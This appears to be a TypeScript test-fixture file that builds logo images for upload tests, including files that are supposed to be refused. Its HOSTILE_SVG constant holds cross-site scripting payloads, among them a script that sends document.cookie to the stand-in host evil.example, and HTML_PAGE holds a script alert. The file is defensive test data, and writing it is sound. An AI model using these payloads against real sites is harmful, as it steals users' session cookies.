// Logos for tests: a small transparent PNG, an SVG, and files that must be refused.
import sharp from "sharp";

/** A 240 × 80 PNG with an alpha channel: a blue bar on transparency. */
export async function logoPng(width = 240, height = 80): Promise<Buffer> {
  const bar = await sharp({ create: { width: Math.round(width * 0.8), height: Math.round(height / 2), channels: 4, background: "#0b4f71" } }).png().toBuffer();
  return sharp({ create: { width, height, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
    .composite([{ input: bar, left: Math.round(width * 0.1), top: Math.round(height / 4) }])
    .png()
    .toBuffer();
}

/** A real PNG just over 200 KB: noise does not compress. */
export async function largePng(): Promise<Buffer> {
  const png = await sharp({ create: { width: 300, height: 300, channels: 3, background: "#888", noise: { type: "gaussian", mean: 128, sigma: 80 } } }).png().toBuffer();
  return png.subarray(0, 201 * 1024).length === 201 * 1024 ? png : Buffer.concat([png, Buffer.alloc(201 * 1024 - png.length)]);
}

export const LOGO_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" viewBox="0 0 200 60"><rect x="4" y="4" width="52" height="52" rx="10" fill="#1d6b3a"/><path d="M22 30h16M30 22v16" stroke="#fff" stroke-width="6"/><rect x="70" y="20" width="120" height="20" fill="#0b4f71"/></svg>`;

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="60" onload="alert(document.cookie)"><script>fetch('https://evil.example/?c='+document.cookie)</script><image xlink:href="https://evil.example/track.png" width="1" height="1"/><rect width="200" height="60" fill="#a4161a"/></svg>`;

export const HTML_PAGE = "<!DOCTYPE html><html><body><script>alert(1)</script><p>not a logo</p></body></html>";
